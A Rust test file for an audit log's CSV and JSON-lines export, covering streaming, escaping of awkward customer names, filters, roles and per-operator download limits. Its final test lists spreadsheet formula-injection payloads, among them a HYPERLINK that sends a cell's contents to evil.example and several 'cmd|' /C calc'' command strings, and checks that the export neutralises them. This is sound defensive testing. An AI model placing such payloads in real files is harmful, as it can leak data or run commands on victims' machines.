//! Exports of 100,000 events: `/audit/export.csv` streamed over HTTP, and `audit export` as
//! CSV and JSON lines, with customer names that need quoting.

use crate::{audit_support, support};

use app::domain::Role;
use app::services::audit::export::{spreadsheet_safe, COLUMNS};
use app::services::audit::{self, NewEvent, Outcome};
use audit_support::{console_cli, temp_db};
use futures::StreamExt;
use serde_json::json;
use support::TestConsole;

const EVENTS: usize = 100_000;

/// Names that break naive CSV: commas, quotes, newlines, and a formula-looking one.
const NAMES: [&str; 6] = [
    "plain-customer",
    "Acme, Inc.",
    "The \"Best\" Co",
    "line one\nline two",
    "carriage\r\nreturn, \"both\"",
    "=SUM(A1:A2)",
];

fn name(i: usize) -> &'static str {
    NAMES[i % NAMES.len()]
}

/// `name(i)` as a CSV cell: the formula-looking one is shown as text (see
/// `formula_cells_are_shown_as_text_in_csv_and_stored_as_recorded`).
fn csv_name(i: usize) -> String {
    spreadsheet_safe(name(i).to_string())
}

/// 100,000 rows in one statement. Their hashes are placeholders: exports copy rows as stored
/// and do not check the chain, and hashing each row in a debug build would dominate the test.
async fn fill(pool: &sqlx::SqlitePool) {
    sqlx::query(
        "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i + 1 < ?7)
         INSERT INTO audit_events
             (occurred_at, kind, operator, customer, action, params, outcome, prev_hash, hash)
         SELECT strftime('%Y-%m-%dT%H:%M:%fZ', 'now'), 'event', 'ann@example.com',
                CASE i % 6 WHEN 0 THEN ?1 WHEN 1 THEN ?2 WHEN 2 THEN ?3 WHEN 3 THEN ?4
                           WHEN 4 THEN ?5 ELSE ?6 END,
                'limits.total', '{\"n\":1}',
                CASE WHEN i % 10 = 0 THEN 'failure' ELSE 'success' END,
                'fill-prev-' || i, 'fill-hash-' || i
         FROM n",
    )
    .bind(NAMES[0])
    .bind(NAMES[1])
    .bind(NAMES[2])
    .bind(NAMES[3])
    .bind(NAMES[4])
    .bind(NAMES[5])
    .bind(EVENTS as i64)
    .execute(pool)
    .await
    .unwrap();
}

/// The whole body of `/audit/export.csv?{query}`.
async fn export(console: &TestConsole, client: &reqwest::Client, query: &str) -> Vec<u8> {
    client
        .get(format!("{}/audit/export.csv?{query}", console.url()))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap()
        .to_vec()
}

fn customers_of_csv(bytes: &[u8]) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(bytes);
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(headers, COLUMNS);
    let customer = headers.iter().position(|h| h == "customer").unwrap();
    reader
        .records()
        .map(|record| record.expect("well-formed CSV")[customer].to_string())
        .collect()
}

/// Reads a body chunk by chunk as it arrives, checking that its first line is the header row
/// as soon as that line is complete. Returns the body, the number of chunks, and how many
/// bytes had arrived when the header row was complete.
async fn read_in_chunks(response: reqwest::Response) -> (Vec<u8>, usize, usize) {
    let mut stream = response.bytes_stream();
    let (mut body, mut chunks, mut header_after) = (Vec::new(), 0, None);
    while let Some(chunk) = stream.next().await {
        body.extend_from_slice(&chunk.expect("a chunk"));
        chunks += 1;
        if header_after.is_none() {
            if let Some(end) = body.iter().position(|b| *b == b'\n') {
                let line = std::str::from_utf8(&body[..end]).unwrap().trim_end();
                assert_eq!(line, COLUMNS.join(","), "the first line is the header row");
                header_after = Some(body.len());
            }
        }
    }
    let header_after = header_after.expect("a header row");
    (body, chunks, header_after)
}

#[tokio::test]
async fn the_http_export_streams_every_row_with_correct_escaping() {
    let console = TestConsole::start().await;
    console
        .add_operator("auditor@example.com", Role::Auditor)
        .await;
    console
        .add_operator("support@example.com", Role::Support)
        .await;
    fill(&console.pool).await;
    let auditor = console.signed_in("auditor@example.com").await;

    let response = auditor
        .get(format!("{}/audit/export.csv", console.url()))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    assert!(response.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment"));
    // Streamed: no length known up front, sent in chunks as rows are read.
    assert!(
        response.headers().get("content-length").is_none(),
        "{:?}",
        response.headers()
    );
    assert_eq!(response.headers()["transfer-encoding"], "chunked");
    let (body, chunks, header_after) = read_in_chunks(response).await;
    assert!(chunks > 1, "the body arrived in {chunks} chunk(s)");
    assert!(
        header_after < body.len(),
        "the header row came with the first {header_after} of {} bytes",
        body.len()
    );
    // Start-up, the sign-in and the export itself are audited too, around the filled rows.
    let customers: Vec<String> = customers_of_csv(&body)
        .into_iter()
        .skip_while(|c| c != NAMES[0])
        .take(EVENTS)
        .collect();
    assert_eq!(customers.len(), EVENTS);
    for (i, customer) in customers.iter().enumerate() {
        assert_eq!(*customer, csv_name(i), "row {i}");
    }

    // The same filters as /audit.
    let filtered = export(
        &console,
        &auditor,
        "customer=Acme%2C%20Inc.&outcome=failure",
    )
    .await;
    let customers = customers_of_csv(&filtered);
    let expected = (0..EVENTS)
        .filter(|i| i % 10 == 0 && name(*i) == "Acme, Inc.")
        .count();
    assert_eq!(customers.len(), expected);
    assert!(customers.iter().all(|c| c == "Acme, Inc."));

    let bad = auditor
        .get(format!("{}/audit/export.csv?outcome=maybe", console.url()))
        .send()
        .await
        .unwrap();
    assert_eq!(bad.status(), 400);

    let support = console.signed_in("support@example.com").await;
    let refused = support
        .get(format!("{}/audit/export.csv", console.url()))
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), 403);
    let anonymous = console
        .client()
        .get(format!("{}/audit/export.csv", console.url()))
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), 303);
    console.stop().await;
}

#[tokio::test]
async fn the_cli_exports_csv_and_json_lines() {
    let db = temp_db().await;
    fill(&db.pool).await;

    let csv = console_cli(&db.url, &["audit", "export", "--format", "csv"]);
    assert!(
        csv.status.success(),
        "{}",
        String::from_utf8_lossy(&csv.stderr)
    );
    let customers = customers_of_csv(&csv.stdout);
    assert_eq!(customers.len(), EVENTS);
    assert!(customers.iter().enumerate().all(|(i, c)| *c == csv_name(i)));

    let jsonl = console_cli(&db.url, &["audit", "export", "--format", "jsonl"]);
    assert!(
        jsonl.status.success(),
        "{}",
        String::from_utf8_lossy(&jsonl.stderr)
    );
    let text = String::from_utf8(jsonl.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), EVENTS);
    for (i, line) in lines.iter().enumerate().step_by(997) {
        let row: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(row["customer"], name(i));
        assert_eq!(
            row["params"],
            serde_json::json!({ "n": 1 }),
            "params stay JSON"
        );
    }

    let none = console_cli(
        &db.url,
        &[
            "audit",
            "export",
            "--format",
            "csv",
            "--since",
            "2999-01-01T00:00:00Z",
        ],
    );
    assert!(none.status.success());
    assert_eq!(customers_of_csv(&none.stdout).len(), 0);
    let all = console_cli(
        &db.url,
        &[
            "audit",
            "export",
            "--format",
            "jsonl",
            "--since",
            "2000-01-01T00:00:00+02:00",
        ],
    );
    assert_eq!(
        String::from_utf8(all.stdout).unwrap().lines().count(),
        EVENTS
    );

    let bad = console_cli(&db.url, &["audit", "export", "--since", "yesterday"]);
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("RFC 3339"));
}

/// `rows` events of about 2 KB each: an export of them is far more than the socket buffers
/// of a client that stops reading can take.
async fn fill_wide(pool: &sqlx::SqlitePool, rows: i64) {
    sqlx::query(
        "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i + 1 < ?1)
         INSERT INTO audit_events
             (occurred_at, kind, operator, customer, action, params, outcome, prev_hash, hash)
         SELECT strftime('%Y-%m-%dT%H:%M:%fZ', 'now'), 'event', 'ann@example.com', 'acme',
                'limits.total', '{\"pad\":\"' || printf('%.2000c', 'x') || '\"}', 'success',
                'wide-prev-' || i, 'wide-hash-' || i
         FROM n",
    )
    .bind(rows)
    .execute(pool)
    .await
    .unwrap();
}

#[tokio::test]
async fn stalled_downloads_hold_no_connection_and_each_operator_has_two() {
    use std::time::Duration;

    let console = TestConsole::start().await;
    fill_wide(&console.pool, 20_000).await;
    let url = format!("{}/audit/export.csv", console.url());
    // Fourteen downloads whose headers arrived and whose bodies are never read: more than the
    // eight pooled connections.
    let mut stalled = Vec::new();
    for n in 0..7 {
        let email = format!("reader{n}@example.com");
        console.add_operator(&email, Role::Auditor).await;
        let client = console.signed_in(&email).await;
        for _ in 0..2 {
            let response = client.get(&url).send().await.unwrap();
            assert_eq!(response.status(), 200);
            stalled.push(response);
        }
        let third = client.get(&url).send().await.unwrap();
        assert_eq!(
            third.status(),
            429,
            "a third export of the same operator waits"
        );
        assert!(third
            .text()
            .await
            .unwrap()
            .contains("2 exports downloading"));
    }

    let at_once = Duration::from_secs(5);
    let health = tokio::time::timeout(
        at_once,
        console
            .client()
            .get(format!("{}/healthz", console.url()))
            .send(),
    )
    .await
    .expect("/healthz answers while the downloads stall")
    .unwrap();
    assert_eq!(health.status(), 200);
    console
        .add_operator("late@example.com", Role::Support)
        .await;
    let signed_in = tokio::time::timeout(
        at_once,
        console.sign_in(&console.client(), "late@example.com", support::PASSWORD),
    )
    .await
    .expect("sign-in answers while the downloads stall");
    assert_eq!(signed_in.status(), 303);

    // A download that ends frees its operator's slot.
    drop(stalled.remove(0));
    let reader = console.signed_in("reader0@example.com").await;
    let mut freed = None;
    for _ in 0..100 {
        let response = reader.get(&url).send().await.unwrap();
        if response.status() == 200 {
            freed = Some(response);
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let body = freed.expect("the slot is freed").bytes().await.unwrap();
    let acme = customers_of_csv(&body)
        .into_iter()
        .filter(|customer| customer == "acme")
        .count();
    assert_eq!(acme, 20_000, "every row, page after page");
    drop(stalled);
    console.stop().await;
}

#[tokio::test]
async fn formula_cells_are_shown_as_text_in_csv_and_stored_as_recorded() {
    let console = TestConsole::start().await;
    console
        .add_operator("auditor@example.com", Role::Auditor)
        .await;
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "a=b, untouched",
    ];
    for name in hostile {
        let mut event = NewEvent::event(
            app::domain::AuditAction::Limits(app::domain::limits::LimitTask::Total),
            None,
            Outcome::Failure,
            json!({}),
        );
        event.customer = Some(name.to_string());
        event.upstream_message = Some(name.to_string());
        audit::append(&console.pool, event).await.unwrap();
    }
    let auditor = console.signed_in("auditor@example.com").await;
    let body = export(&console, &auditor, "action=limits.total").await;
    let mut reader = csv::Reader::from_reader(&body[..]);
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (customer, message) = (column("customer"), column("upstream_message"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), hostile.len());
    for (row, name) in rows.iter().zip(hostile) {
        let expected = if name.starts_with("a=b") {
            name.to_string()
        } else {
            format!("'{name}")
        };
        assert_eq!(row[customer], expected);
        assert_eq!(row[message], expected);
    }

    // The audit log keeps what was recorded (and JSON lines copy it as stored: see
    // `the_cli_exports_csv_and_json_lines`).
    let stored: Vec<String> = sqlx::query_scalar(
        "SELECT customer FROM audit_events WHERE action = 'limits.total' ORDER BY id",
    )
    .fetch_all(&console.pool)
    .await
    .unwrap();
    assert_eq!(stored, hostile);
    console.stop().await;
}
